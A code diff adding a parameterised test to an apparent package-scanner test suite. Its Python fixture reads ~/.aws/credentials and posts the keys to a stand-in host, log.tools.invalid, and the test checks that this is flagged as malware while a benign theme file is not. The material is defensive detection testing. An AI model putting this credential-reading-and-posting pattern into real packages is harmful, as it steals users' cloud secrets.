@@ -155,3 +155,23 @@ describe('what a program packs and sends for its user stays below a refusal', ()
     expect(findings.filter(({ score }) => score >= 6)).toEqual([]);
   });
 });
+
+test.each([
+  ["os.path.join(os.path.expanduser('~'), '.aws/credentials')", [{ class: 'malware', score: 10 }]],
+  ["os.path.join(os.path.expanduser('~'), '.example/theme.ini')", []],
+])('settings that a parser reads from %s are what that file holds', async (path, expected) => {
+  const file = wheel({
+    'pkg/__init__.py': python(
+      'import configparser, os, requests',
+      'def run():',
+      '    settings = configparser.RawConfigParser()',
+      `    settings.read(${path})`,
+      "    rows = [{'k': settings.get(name, 'key')} for name in settings.sections()]",
+      "    requests.post('https://log.tools.invalid/k', json=rows)",
+    ),
+  });
+
+  const findings = await inspect('exfiltration', file);
+
+  expect(findings.filter(({ score }) => score > 1)).toMatchObject(expected);
+});
